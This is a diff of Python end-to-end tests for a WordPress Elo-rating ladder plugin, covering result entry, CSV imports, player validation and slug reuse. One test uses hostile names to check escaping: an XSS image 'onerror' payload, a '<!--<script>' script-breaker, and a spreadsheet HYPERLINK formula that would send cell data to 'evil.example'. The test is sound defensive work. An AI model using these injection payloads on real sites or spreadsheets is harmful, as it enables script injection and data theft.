@@ -202,7 +202,8 @@ def test_hostile_names_are_text_everywhere_and_formulas_are_kept_as_text_in_the_
         browser: Browser, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
     html = '<img src=x onerror="window.pwned=1">'
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": f"{html} ladder"})
+    # `<!--<script>` in an inline script's JSON would swallow the next script (WordPress before 7.0 leaves `<`).
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": f"<!--<script>{html} ladder"})
     assert 201 == status
     slug = ladder["slug"]
     assert re.fullmatch(r"[a-z0-9-]+", slug)
@@ -224,7 +225,15 @@ def test_hostile_names_are_text_everywhere_and_formulas_are_kept_as_text_in_the_
     try:
         page = context.new_page()
         page.goto(f"{wordpress.origin}/wp-admin/admin.php?page=elo-calculator-ladders&ladder={slug}")
-        expect(page.get_by_role("heading", name=f"{html} ladder")).to_be_visible()
+        expect(page.get_by_role("heading", name=f"<!--<script>{html} ladder")).to_be_visible()
+        page.goto(f"{wordpress.origin}/wp-admin/admin.php?page=elo-calculator-ladders&ladder[]=x")  # no fatal error
+        expect(page.get_by_role("link", name=f"<!--<script>{html} ladder")).to_be_visible()
+        page.goto(f"{wordpress.origin}/wp-admin/post-new.php")  # the block editor, the ladders in its config
+        # The block's script ran after the inline config that holds the name (an unescaped `<!--<script>` eats it).
+        page.wait_for_function("() => window.wp?.blocks?.getBlockType('elo-calculator/calculator')")
+        assert page.evaluate("Object.values(window.eloCalculatorEditor.choices.ladder)").count(
+            f"<!--<script>{html} ladder") == 1
+        page.goto(f"{wordpress.origin}/wp-admin/admin.php?page=elo-calculator-ladders&ladder={slug}")
         expect(page.get_by_label("Name H", exact=True)).to_have_value(html)
         expect(page.locator(".elo-games")).to_contain_text(html)
         expect(page.locator(".elo-games")).to_contain_text(formula)
@@ -318,7 +327,7 @@ def test_an_import_with_a_bad_line_is_refused_whole_naming_the_line(
 
 
 def test_the_secretary_enters_results_on_the_admin_page_with_undo_and_history(
-        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
+        browser: Browser, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
     context = log_in(browser, wordpress, *EDITOR)
     try:
         page = context.new_page()
@@ -370,6 +379,12 @@ def test_the_secretary_enters_results_on_the_admin_page_with_undo_and_history(
         page.get_by_role("button", name="Save", exact=True).click()
         expect(status).to_contain_text("Saved: 2026-02-24")
         expect(status).to_contain_text("0-1")
+        # Edited again, its date only: the result stays 0-1.
+        page.get_by_role("button", name=re.compile(r"^Edit 2026-02-24 .* 0-1$")).click()
+        page.locator(".elo-games input[name=date]").fill("2026-02-25")
+        page.get_by_role("button", name="Save", exact=True).click()
+        expect(status).to_contain_text("Saved: 2026-02-25")
+        expect(status).to_contain_text("0-1")
 
         # A new player, then results pasted a game a line (a name that is no player refuses the paste whole).
         page.get_by_label("Name", exact=True).first.fill("Nora Neu")  # the players' form, before the rules'
@@ -387,13 +402,23 @@ def test_the_secretary_enters_results_on_the_admin_page_with_undo_and_history(
         expect(status).to_have_text("Added: 2 games, 0 new players.")
         expect(page.get_by_role("heading", name="Games (30)")).to_be_visible()
 
+        # A file an older Excel saved (Windows-1252): its accents kept; its new player added.
+        latin = tmp_path / "excel.csv"
+        latin.write_bytes("Datum;Weiß;Schwarz;Ergebnis\r\n17.03.2026;Jürgen Groß;Anna Meier;1\r\n".encode("cp1252"))
+        page.get_by_label("Results file (CSV, as a spreadsheet exports it)").set_input_files(str(latin))
+        page.get_by_label("Players file (optional: id, name, rating, active)").set_input_files([])
+        page.get_by_role("button", name="Import", exact=True).click()
+        expect(status).to_have_text("Added: 1 games, 1 new players.")
+        expect(page.get_by_label("Name Jürgen Groß", exact=True)).to_have_value("Jürgen Groß")
+        expect(page.get_by_role("heading", name="Games (31)")).to_be_visible()
+
         # A name that is no player is refused where it was typed, and nothing is lost.
         page.get_by_label("White (first player)").fill("Nobody")
         page.get_by_label("Black (second player)").fill("Ben Keller")
         page.get_by_role("button", name="White won 1-0").click()
         expect(status).to_contain_text('Not saved: white: the ladder has no player "Nobody"')
         expect(page.get_by_label("White (first player)")).to_have_value("Nobody")
-        expect(page.get_by_role("heading", name="Games (30)")).to_be_visible()
+        expect(page.get_by_role("heading", name="Games (31)")).to_be_visible()
     finally:
         context.close()
 
@@ -460,3 +485,65 @@ def test_the_administrator_gives_a_role_the_keeping_of_ladders_in_the_settings(
     finally:
         page.close()
         wordpress.php("get_role('author')->remove_cap('elo_calculator_keep_ladders');")
+
+
+def test_ids_and_names_are_one_player_s_letter_case_aside_and_odd_values_are_refused_by_field(
+        wordpress: WordPress, users: dict[str, int]) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Case ladder"})
+    assert 201 == status
+    route = f"/ladders/{ladder['slug']}/players"
+    answers = rest(wordpress, users["editor"], ("POST", route, {"id": "AM", "name": "Anna Meier"}),
+                   ("POST", route, {"id": "am", "name": "Other"}),
+                   ("POST", route, {"id": "X1", "name": "anna meier"}),
+                   ("POST", route, {"name": "\u202eevil"}), ("POST", route, {"name": "a\u0080b"}),
+                   ("POST", route, {"name": "Ben", "active": "maybe"}), ("POST", route, {"name": "Ben", "active": []}),
+                   ("POST", route, {"name": "Ben", "rating": "4001"}), ("POST", route, {"name": "Ben", "rating": {}}),
+                   ("POST", route, {"name": "Ben", "rating": "1.850", "active": "Nein"}),
+                   ("PUT", route, {"id": "nobody", "name": "X"}), ("PUT", route, {"id": "AM", "rating": "1900"}))
+    assert [(201, None), (409, "id"), (409, "name"), (400, "name"), (400, "name"), (400, "active"), (400, "active"),
+            (400, "rating"), (400, "rating"), (201, None), (404, "id"), (200, None)] == [
+        (s, a.get("data", {}).get("field")) for s, a in answers]
+    assert {"id": "Ben", "name": "Ben", "rating": "1850", "active": False} == answers[9][1]
+    assert "1900" == answers[11][1]["rating"]
+    game = {"date": "2026-03-03", "white": "anna MEIER", "black": "ben", "result": "1"}
+    answers = rest(wordpress, users["editor"], ("POST", f"/ladders/{ladder['slug']}/games", game),
+                   ("POST", f"/ladders/{ladder['slug']}/games", {**game, "pool": ["x"]}))
+    assert (201, "AM", "Ben") == (answers[0][0], answers[0][1]["white"], answers[0][1]["black"])
+    assert (400, "pool") == (answers[1][0], answers[1][1]["data"]["field"])
+
+
+def test_numbers_as_ids_import_and_paste_and_odd_files_read_as_the_ladder_view_reads_them(
+        wordpress: WordPress, users: dict[str, int]) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Numbers ladder"})
+    assert 201 == status
+    slug = ladder["slug"]
+    # A players header without an id column (the name is the id), a rating with a thousands separator, a
+    # German "retired", and a Mac's CR-only line ends.
+    players = "nr,name,wertung,aktiv\r1,Anna,1.850,ja\r2,Ben,1600,Ausgetreten\r3,Cleo,,\r"
+    answers = rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/import",
+                                                {"games": "2026-03-03,1,2,1-0\r", "players": players}),
+                   ("POST", f"/ladders/{slug}/import", {"games": "2026-03-10,2,3,0\n", "new_players": False}),
+                   ("POST", f"/ladders/{slug}/import", {"games": "2026-03-17,1,3,=\n", "players": players}),
+                   ("GET", f"/ladders/{slug}", None))
+    assert [(200, {"games": 1, "players": 3}), (200, {"games": 1, "players": 0}),
+            (200, {"games": 1, "players": 0})] == answers[:3]
+    got = answers[3][1]
+    assert [("1", "Anna", "1850", True), ("2", "Ben", "1600", False), ("3", "Cleo", "", True)] == [
+        (p["id"], p["name"], p["rating"], p["active"]) for p in got["players"]]
+    assert [("1", "2", "1-0"), ("2", "3", "0-1"), ("1", "3", "1/2-1/2")] == [
+        (g["white"], g["black"], g["result"]) for g in got["games"]]
+    names = "name,rating\nAnna,1500\nBen,1400\n"  # header without id: the names are the ids
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Names ladder"})
+    status, done = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import",
+                       {"games": "date;white;black;result\n03.03.2026;Anna;Ben;0,5\n", "players": names})
+    assert (200, {"games": 1, "players": 2}) == (status, done)
+
+
+def test_a_deleted_ladder_s_slug_is_not_given_again_and_an_odd_address_shows_the_page(
+        page: Page, wordpress: WordPress, users: dict[str, int]) -> None:
+    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Season 2025"})
+    assert (201, "season-2025") == (status, ladder["slug"])
+    assert 200 == one(wordpress, users["editor"], "DELETE", "/ladders/season-2025")[0]
+    status, again = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Season 2025"})
+    assert (201, "season-2025-2") == (status, again["slug"])
+    assert 404 == one(wordpress, users["editor"], "GET", "/ladders/season-2025")[0]
